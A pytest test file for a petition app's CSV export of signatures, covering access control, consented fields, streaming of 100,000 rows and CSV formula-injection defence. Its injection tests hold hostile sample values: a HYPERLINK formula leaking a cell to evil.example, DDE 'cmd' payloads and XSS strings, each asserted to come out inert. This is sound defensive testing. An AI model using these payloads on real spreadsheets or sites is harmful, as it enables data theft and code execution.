"""CSV export of verified signatures: owners and organisers only, consented fields only,
streamed (100,000 rows in a few MB), and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import itertools
import re
import tracemalloc
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select, text, update
from sqlalchemy.orm import Session

from tests.factories import add_member, login, make_user
from tests.test_signatures import _published, _sign
from web.accounts.models import User
from web.billing.models import account_for
from web.campaigns import services as campaigns
from web.campaigns.models import Campaign
from web.collectives.models import Collective, Membership, Role
from web.db import utcnow
from web.signatures import services as signing
from web.signatures.export import HEADER, neutralise
from web.signatures.models import Signature
from web.signatures.retention import anonymise_due_campaigns
from web.tenancy import set_current_collective

_seq = itertools.count(1)
BOM = "\ufeff"
DAY1 = datetime(2025, 3, 3, 9, 30, tzinfo=UTC)


def _add(session: Session, campaign: Campaign, **fields: Any) -> Signature:
    set_current_collective(session, campaign.collective_id)
    version = campaigns.current_version(session, campaign)
    assert version is not None
    n = next(_seq)
    email = fields.pop("email", f"signer{n}@example.org")
    status = fields.pop("status", "verified")
    values: dict[str, Any] = {
        "campaign_id": campaign.id,
        "letter_version_id": version.id,
        "name": f"Signer {n}",
        "email": email,
        "email_canonical": signing.canonical_email(email) if email else f"offline:{n}",
        "postcode": "SW1A 1AA",
        "status": status,
        "secret_hash": b"\x01" * 32,
        "ip_hash": f"{n:064x}",
        "verified_at": DAY1 + timedelta(minutes=n) if status == "verified" else None,
        **fields,
    }
    signature = Signature(**values)
    session.add(signature)
    session.flush()
    return signature


def _user(session: Session, collective: Collective, role: Role) -> User:
    set_current_collective(session, collective.id)
    membership = session.scalar(select(Membership).where(Membership.role == role))
    assert membership is not None
    user = session.get(User, membership.user_id)
    assert user is not None
    return user


def _url(collective: Collective, campaign: Campaign) -> str:
    return f"/app/{collective.slug}/campaigns/{campaign.id}/signatures/export.csv"


def _csv(body: bytes) -> list[list[str]]:
    decoded = body.decode("utf-8")
    assert decoded.startswith(BOM)
    return list(csv.reader(io.StringIO(decoded[len(BOM) :], newline="")))


@pytest.fixture
def world(session: Session, app: Flask) -> tuple[Collective, Campaign]:
    collective, campaign = _published(session, app)
    # The export is a Supporter feature (web/billing/plans.py; its gate is tested in
    # tests/test_billing_plans.py). These tests are about the file itself.
    account_for(session, collective.id).complimentary_until = utcnow() + timedelta(days=1)
    session.flush()
    return collective, campaign


def test_owner_downloads_verified_signatures_with_consented_fields_only(
    client: FlaskClient, session: Session, app: Flask, world: tuple[Collective, Campaign]
) -> None:
    collective, campaign = world
    signed = [
        _add(session, campaign, name="Ada Lovelace", email="ada@example.org", wants_updates=True),
        _add(session, campaign, name="Bea Private", email="bea@example.org", wants_updates=False),
        _add(
            session,
            campaign,
            name="Cal Words",
            statement="It matters to me.",
            show_statement=True,
            statement_status="approved",
        ),
        _add(session, campaign, name="Dee Quiet", statement="Keep this to yourselves."),
        _add(
            session,
            campaign,
            name="Émile Zoë Ñandú",  # accents survive (UTF-8 with a BOM for Excel)
            method="assisted",
            channel="phone",
            helper_name="Hal Helper",
            email="",
            postcode="",
        ),
        _add(session, campaign, name="Pat Paper", method="paper", channel="paper", email=""),
    ]
    for status in ("pending", "quarantined", "rejected", "withdrawn"):
        _add(session, campaign, name=f"Not {status}", status=status, wants_updates=True)
    # Oldest confirmation first, in UTC, in a form spreadsheets read as a date and time.
    at = [f"{s.verified_at.astimezone(UTC):%Y-%m-%d %H:%M:%S}" for s in signed]  # type: ignore[union-attr]

    login(client, _user(session, collective, Role.OWNER))
    response = client.get(_url(collective, campaign))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(
        rf'attachment; filename="{collective.slug}-fair-pip-signatures-\d{{4}}-\d\d-\d\d\.csv"',
        disposition,
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response.headers["Cache-Control"]
    rows = _csv(response.get_data())
    assert rows[0] == list(HEADER)
    assert rows[1:] == [
        ["Ada Lovelace", "SW1A 1AA", "ada@example.org", "", "Online", "1", at[0]],
        ["Bea Private", "SW1A 1AA", "", "", "Online", "1", at[1]],
        ["Cal Words", "SW1A 1AA", "", "It matters to me.", "Online", "1", at[2]],
        ["Dee Quiet", "SW1A 1AA", "", "", "Online", "1", at[3]],
        ["Émile Zoë Ñandú", "", "", "", "Assisted, by phone", "1", at[4]],
        ["Pat Paper", "SW1A 1AA", "", "", "Paper", "1", at[5]],
    ]
    assert at == sorted(at)
    body = response.get_data(as_text=True)
    for secret in ("Hal Helper", "Keep this to yourselves", "bea@example.org", "Not pending"):
        assert secret not in body


def test_the_letter_version_each_signer_signed_is_in_the_file(
    client: FlaskClient, session: Session, app: Flask, world: tuple[Collective, Campaign]
) -> None:
    collective, campaign = world
    _add(session, campaign, name="Early Signer")
    set_current_collective(session, collective.id)
    member = session.scalar(select(Membership).where(Membership.role == Role.OWNER))
    assert member is not None
    campaigns.save_letter(
        session,
        member,
        campaign,
        subject="Subject, revised",
        summary="Summary.",
        body_markdown="Body, revised.",
        asks=["Ask"],
        evidence_links=[],
    )
    campaigns.publish(session, member, session.get(Collective, collective.id), campaign)  # type: ignore[arg-type]
    _add(session, campaign, name="Later Signer")

    login(client, _user(session, collective, Role.OWNER))
    rows = _csv(client.get(_url(collective, campaign)).get_data())
    assert [(r[0], r[5]) for r in rows[1:]] == [("Early Signer", "1"), ("Later Signer", "2")]


def test_viewers_are_refused_and_organisers_may_download(
    client: FlaskClient,
    other_client: FlaskClient,
    session: Session,
    app: Flask,
    world: tuple[Collective, Campaign],
) -> None:
    collective, campaign = world
    _add(session, campaign, name="Ada Lovelace")
    viewer = make_user(session, app)
    add_member(session, collective, viewer, Role.VIEWER)
    organiser = make_user(session, app)
    add_member(session, collective, organiser, Role.ORGANISER)
    counts = f"/app/{collective.slug}/campaigns/{campaign.id}/signatures/"

    login(client, viewer)
    refused = client.get(_url(collective, campaign))
    assert refused.status_code == 403
    page = refused.get_data(as_text=True)
    assert "Only owners or organisers of this collective can do that." in page
    assert "Ada Lovelace" not in page
    viewer_counts = client.get(counts).get_data(as_text=True)
    assert "export.csv" not in viewer_counts
    assert "Owners and organisers can download the verified signatures" in viewer_counts

    login(other_client, organiser)
    organiser_counts = other_client.get(counts).get_data(as_text=True)
    link = re.search(
        r'<a class="button button-secondary" id="export-csv" href="([^"]+)"', organiser_counts
    )
    assert link
    assert link.group(1) == _url(collective, campaign)
    response = other_client.get(link.group(1))
    assert response.status_code == 200
    assert _csv(response.get_data())[1][0] == "Ada Lovelace"


def test_logged_out_people_are_sent_to_log_in(
    client: FlaskClient, world: tuple[Collective, Campaign]
) -> None:
    collective, campaign = world
    response = client.get(_url(collective, campaign))
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_a_campaign_of_another_collective_or_none_at_all_is_not_found(
    client: FlaskClient, session: Session, app: Flask, world: tuple[Collective, Campaign]
) -> None:
    collective, _ = world
    other, theirs = _published(session, app, slug="theirs")
    _add(session, theirs, name="Their Signer")
    login(client, _user(session, collective, Role.OWNER))
    for url in (
        f"/app/{collective.slug}/campaigns/{theirs.id}/signatures/export.csv",
        f"/app/{other.slug}/campaigns/{theirs.id}/signatures/export.csv",
        f"/app/{collective.slug}/campaigns/{2**63 - 1}/signatures/export.csv",
        f"/app/{collective.slug}/campaigns/{2**63}/signatures/export.csv",
        f"/app/{collective.slug}/campaigns/0/signatures/export.csv",
        f"/app/{collective.slug}/campaigns/1%00/signatures/export.csv",
    ):
        response = client.get(url)
        assert response.status_code == 404, url
        assert "Their Signer" not in response.get_data(as_text=True)


# --- formula injection and hostile values ------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('   =HYPERLINK("http://x")', '\'   =HYPERLINK("http://x")'),
        ("\u00a0\u2003+cmd", "'\u00a0\u2003+cmd"),  # non-breaking and em spaces
        ("\u202e=cmd|' /C calc'!A0", "'\u202e=cmd|' /C calc'!A0"),  # RTL override first
        ("\u200b@x", "'\u200b@x"),  # zero-width space
        ("\n-1", "'\n-1"),
        ("＝1+1", "'＝1+1"),  # full-width equals sign
        ("Ada Lovelace", "Ada Lovelace"),
        ("Anne-Marie = great", "Anne-Marie = great"),
        ("a@example.org", "a@example.org"),
        ("", ""),
        ("   ", "   "),
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ],
)
def test_cells_a_spreadsheet_would_run_are_made_text(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_hostile_values_signed_through_the_form_come_out_of_the_file_as_inert_text(
    client: FlaskClient,
    other_client: FlaskClient,
    session: Session,
    app: Flask,
    world: tuple[Collective, Campaign],
) -> None:
    collective, campaign = world
    page = f"/{collective.slug}/{campaign.slug}"
    hostile = [
        ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "=1+1", "eq@example.org"),
        ("+1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "plus@example.org"),
        ("-2+3", "\u202e=cmd", "minus@example.org"),
        ("@SUM(A1)", "   -1", "at@example.org"),
        ("<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "xss@example.org"),
        ('Zoë "Quotes", Commas', "Line one\r\nLine two", "commas@example.org"),
    ]
    for i, (name, statement, email) in enumerate(hostile):
        other_client.environ_base["REMOTE_ADDR"] = f"10.9.8.{i + 1}"
        response = _sign(
            other_client,
            page,
            name=name,
            email=email,
            statement=statement,
            show_statement="y",
            wants_updates="y",
        )
        assert response.status_code == 303, response.get_data(as_text=True)
    set_current_collective(session, collective.id)
    session.execute(
        update(Signature)
        .where(Signature.campaign_id == campaign.id)
        .values(status="verified", verified_at=DAY1)
    )
    session.flush()

    login(client, _user(session, collective, Role.OWNER))
    response = client.get(_url(collective, campaign))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    rows = _csv(response.get_data())[1:]
    stored = {
        s.email: s
        for s in session.scalars(select(Signature).where(Signature.campaign_id == campaign.id))
    }
    assert len(rows) == len(hostile) == len(stored)
    by_email = {row[2].lstrip("'"): row for row in rows}
    for name, _statement, email in hostile:
        signature = stored[email]
        row = by_email[email]
        # Exactly what was stored, with a quote in front where a spreadsheet would run it.
        assert row[0] == neutralise(signature.name)
        assert row[3] == neutralise(signature.statement)
        assert signature.name.strip() == name.strip()
        for cell in row:
            assert cell.lstrip(" \u202e")[:1] not in {"=", "+", "-", "@", "\t", "\r"}, row
    assert by_email["eq@example.org"][0].startswith("'=HYPERLINK(")
    assert by_email["xss@example.org"][0] == "<script>alert(1)</script>"  # no markup in CSV
    assert by_email["commas@example.org"][0] == 'Zoë "Quotes", Commas'
    assert by_email["commas@example.org"][3] == "Line one\r\nLine two"


# --- after the retention period ------------------------------------------------------------


def test_after_anonymisation_the_file_lists_every_signature_with_nothing_personal(
    client: FlaskClient, session: Session, app: Flask, world: tuple[Collective, Campaign]
) -> None:
    collective, campaign = world
    _add(session, campaign, name="Ada Lovelace", email="ada@example.org", wants_updates=True)
    _add(session, campaign, name="Bea", statement="Words", show_statement=True)
    set_current_collective(session, collective.id)
    owner = session.scalar(select(Membership).where(Membership.role == Role.OWNER))
    assert owner is not None
    campaigns.close_campaign(session, owner, campaign)
    campaigns.conclude_campaign(session, owner, campaign)
    assert campaign.concluded_at is not None
    anonymise_due_campaigns(
        session, retention_days=180, now=campaign.concluded_at + timedelta(days=181)
    )

    url = _url(collective, campaign)
    login(client, _user(session, collective, Role.OWNER))
    rows = _csv(client.get(url).get_data())
    assert [row[:5] for row in rows[1:]] == [["", "SW", "", "", "Online"]] * 2


# --- 100,000 rows --------------------------------------------------------------------------


def test_100000_signatures_stream_without_being_held_in_memory(
    client: FlaskClient, session: Session, app: Flask, world: tuple[Collective, Campaign]
) -> None:
    collective, campaign = world
    set_current_collective(session, collective.id)
    version = campaigns.current_version(session, campaign)
    assert version is not None
    total = 100_000
    session.execute(
        text(
            "INSERT INTO signatures (collective_id, campaign_id, letter_version_id, name,"
            " email, email_canonical, postcode, statement, show_statement, wants_updates,"
            " status, method, secret_hash, verified_at)"
            " SELECT :collective, :campaign, :version, 'Signer number ' || n,"
            " 'signer' || n || '@example.org', 'signer' || n || '@example.org', 'SW1A 1AA',"
            " CASE WHEN n % 10 = 0 THEN '=1+' || n ELSE 'Because it matters' END,"
            " n % 2 = 0, n % 3 = 0, 'verified', 'online', decode(repeat('00', 32), 'hex'),"
            " :start + n * interval '1 second'"
            " FROM generate_series(1, :total) AS n"
        ),
        {
            "collective": collective.id,
            "campaign": campaign.id,
            "version": version.id,
            "start": DAY1,
            "total": total,
        },
    )
    _add(session, campaign, name="Not counted", status="pending", email="late@example.net")
    login(client, _user(session, collective, Role.OWNER))
    url = _url(collective, campaign)

    tracemalloc.start()
    try:
        response = client.get(url)
        assert response.status_code == 200
        chunks = lines = size = 0
        tail = b""
        cursors: list[str] = []
        for chunk in response.response:
            chunks += 1
            if chunks == 3:  # mid-file: the rows come from a cursor held by the server
                cursors = list(
                    session.scalars(text("SELECT statement FROM pg_cursors WHERE NOT is_holdable"))
                )
            lines += chunk.count(b"\n")
            size += len(chunk)
            tail = (tail + chunk)[-200:]
        response.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert lines == total + 1  # the header and one line per verified signature
    assert any("FROM signatures" in c for c in cursors), cursors
    # Measured: a 7.7 MB file with a peak of 1.7 MB, in about 5 s under tracemalloc.
    assert size > 7_000_000
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"
    assert peak * 3 < size, f"peak {peak / 1e6:.1f} MB for a {size / 1e6:.1f} MB file"
    assert chunks > 50  # sent as it was read, not built whole first
    assert tail.endswith(b",Online,1,2025-03-04 13:16:40\r\n"), tail
